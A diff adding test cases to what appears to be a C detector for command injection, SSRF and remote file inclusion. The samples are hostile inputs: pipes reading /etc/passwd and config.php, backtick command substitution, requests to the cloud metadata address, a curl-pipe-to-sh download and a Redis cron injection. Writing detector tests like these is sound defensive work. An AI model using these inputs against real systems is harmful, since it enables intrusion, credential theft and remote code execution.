@@ -178,6 +178,22 @@ static const struct dcase cases[] = {
 	{ "cmdi", 0, "name: CI\non: [push]\njobs:\n  b:\n    steps:\n      - run: echo \"$T\" | docker login -u x --password-stdin\n      - run: ls -la /tmp && cat out.log\n" },
 	{ "cmdi", 1, "FROM alpine\nRUN apk add curl\nRUN curl -s http://203.0.113.9/x | sh\n" },
 	{ "cmdi", 1, "x | tee /var/www/html/s.php" },
+	/* words after a URL's query or fragment, and blanks before it, do not
+	 * stop a fetcher */
+	{ "ssrf", 1, "http://169.254.169.254/latest/meta-data/#a b" },
+	{ "ssrf", 1, "http://169.254.169.254/latest/meta-data/?a b" },
+	{ "ssrf", 1, " http://169.254.169.254/latest/meta-data/" },
+	{ "ssrf", 0, "http://localhost:8080 is my dev server" },
+	{ "rfi", 1, "http://203.0.113.9/shell.txt? x" },
+	{ "rfi", 0, "https://item.example.cn/1.html is it in stock?" },
+	/* a filter with a file argument reads the file, not the pipe */
+	{ "cmdi", 1, "127.0.0.1|sort /etc/passwd" },
+	{ "cmdi", 1, "127.0.0.1 | head /etc/passwd" },
+	{ "cmdi", 1, "x|tail -n 50 config.php" },
+	/* backticks glued to a word substitute a command; inline code does not */
+	{ "cmdi", 1, "127.0.0.1`sleep 10`" },
+	{ "cmdi", 1, "a`cat config.php`" },
+	{ "cmdi", 0, "\xE8\xBF\x90\xE8\xA1\x8C`make test`\xE5\x8D\xB3\xE5\x8F\xAF" },
 	{ "ssrf", 1, "http://prometheus-server.monitoring.svc.cluster.local/api/v1/targets" },
 	{ "ssrf", 1, "<value><string>http://127.0.0.1:6379/</string></value>" },
 	{ "ssrf", 1, "http://127.0.0.1:6379/\r\nCONFIG SET dir /var/spool/cron/\r\n" },
